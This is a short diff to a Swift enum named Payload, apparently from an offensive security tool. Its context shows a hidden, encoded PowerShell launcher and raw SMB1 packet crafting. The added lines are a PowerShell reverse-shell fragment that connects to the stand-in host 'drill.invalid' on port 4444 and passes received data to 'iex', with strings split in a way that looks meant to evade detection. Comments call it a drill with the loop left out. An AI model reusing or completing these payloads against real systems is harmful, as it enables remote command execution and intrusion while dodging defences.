@@ -22,6 +22,15 @@ enum Payload {
         return "@echo off\r\npowershell.exe -NoP -W Hidden -enc " + encoded + "\r\n"
     }
 
+    /// Three lines of a script; what would make a shell of them, the loop, is left out.
+    static var powerShellSocket: String {
+        [
+            "# dien tap: khong co vong lap, khong co ket noi",
+            "$c = New-Object System.Net.Sockets." + "TCPClient('drill.invalid',4444)",
+            "$o = (i" + "ex $d 2>&1 | Out-String )", "",
+        ].joined(separator: "\r\n")
+    }
+
     /// An SMB1 message: NetBIOS length, header for `command`, then the rest.
     static func smb(command: UInt8, _ rest: [UInt8]) -> [UInt8] {
         var message: [UInt8] = [0xff, 0x53, 0x4d, 0x42, command, 0, 0, 0, 0, 0x18, 0x07, 0x40]
